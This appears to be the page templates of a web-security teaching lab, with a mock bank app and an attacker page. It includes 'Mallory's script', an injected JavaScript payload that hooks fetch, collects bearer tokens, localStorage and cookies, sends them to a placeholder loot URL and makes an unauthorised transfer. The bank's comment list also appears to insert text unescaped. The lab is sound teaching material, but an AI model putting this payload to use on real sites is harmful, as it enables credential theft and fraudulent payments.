"""What the pages of the lab say: the bank's, and the attacker's."""

STYLE = """
body { font: 17px/1.5 sans-serif; margin: 0; color: #1d2733; }
header { padding: .7em 1.4em; color: #fff; background: #1f5673; }
header.evil { background: #8a2a33; }
main { padding: 1em 1.4em; max-width: 34em; }
h1 { font-size: 1.15em; margin: 0; }
h2 { font-size: 1em; margin: 1.2em 0 .3em; }
table { border-collapse: collapse; width: 100%; }
th, td { text-align: left; padding: .3em .6em .3em 0;
  border-bottom: 1px solid #cdd5dc; }
input { font: inherit; width: 6.5em; margin-right: .4em; }
button { font: inherit; padding: .15em .8em; }
code { font-family: monospace; }
ul, p { margin: .3em 0; }
[hidden] { display: none; }
"""

BANK_HTML = """<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>The bank</title>
<link rel="stylesheet" href="/bank.css"></head>
<body data-keeps="{keeps}" data-token="{token}">
<header><h1>bank.test</h1></header>
<main>
<form id="log-in"><input name="user" placeholder="user">
<input name="password" type="password" placeholder="password">
<button>Log in</button></form>
<section id="account" hidden>
<p><b id="user"></b>, you have <b id="balance"></b> coins.</p>
<form id="pay">Pay <input name="to" value="bob">
<input name="amount" value="1"> coins <button>Pay</button></form>
<h2>You have paid</h2><table id="paid"></table>
</section>
<h2>What our customers say</h2><ul id="comments">{comments}</ul>
</main>
<script src="/bank.js"></script></body></html>
"""

BANK_JS = """
"use strict";
(() => {
  const find = id => document.getElementById(id);
  const {keeps, token: form_token} = document.body.dataset;
  let memory = null;
  const keep = token => {
    if (keeps === "localStorage") localStorage.setItem("token", token);
    else if (token) memory = token; };
  const token = () =>
    keeps === "localStorage" ? localStorage.getItem("token") : memory;
  const call = (path, options = {}) => {
    if (token()) options.headers = {Authorization: `Bearer ${token()}`};
    return fetch(path, options); };
  const post = (path, form) => {
    const body = new URLSearchParams(new FormData(form));
    body.append("token", form_token);
    return call(path, {method: "POST", body}); };
  const show = async () => {
    const answer = await call("/statement");
    if (answer.ok) {
      const {user, balance, paid} = await answer.json();
      find("user").textContent = user;
      find("balance").textContent = balance;
      find("paid").replaceChildren(...paid.map(([to, amount]) => {
        const row = document.createElement("tr");
        for (const text of [to, `${amount} coins`])
          row.insertCell().textContent = text;
        return row; }));
      find("log-in").hidden = true; find("account").hidden = false; }
    document.body.dataset.shown = Number(document.body.dataset.shown || 0) + 1;
  };
  find("log-in").addEventListener("submit", async event => {
    event.preventDefault();
    const answer = await post("/login", event.target);
    if (answer.ok) { keep((await answer.json()).token); await show(); } });
  find("pay").addEventListener("submit", async event => {
    event.preventDefault();
    await post("/transfer", event.target); await show(); });
  show();
})();
"""
"""Looks up `fetch` at each call, as code on the web does."""

INJECTED = """
(() => {
  if (window.came) { window.came.push("WAY"); return; }
  window.came = ["WAY"];
  const real = window.fetch;
  window.fetch = async (path, options = {}) => {
    const answer = await real(path, options);
    if (path !== "/statement" || !answer.ok || window.done) return answer;
    window.done = true;
    const headers = options.headers || {};
    const loot = {"fetch hook": headers.Authorization || "",
      "localStorage": localStorage.getItem("token") || "",
      "document.cookie": document.cookie};
    await real("LOOT", {method: "POST", mode: "no-cors",
      body: JSON.stringify(loot)}).catch(() => null);
    await real("/transfer", {method: "POST", headers,
      body: new URLSearchParams({to: "mallory", amount: "7"})});
    return answer; };
})()
"""
"""Mallory's script: send away all that it finds, then pay Mallory."""

EVIL_HTML = """<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>Evil</title>
<style>{style}</style></head>
<body><header class="evil"><h1>evil.test</h1></header>
<main>{content}</main></body></html>
"""
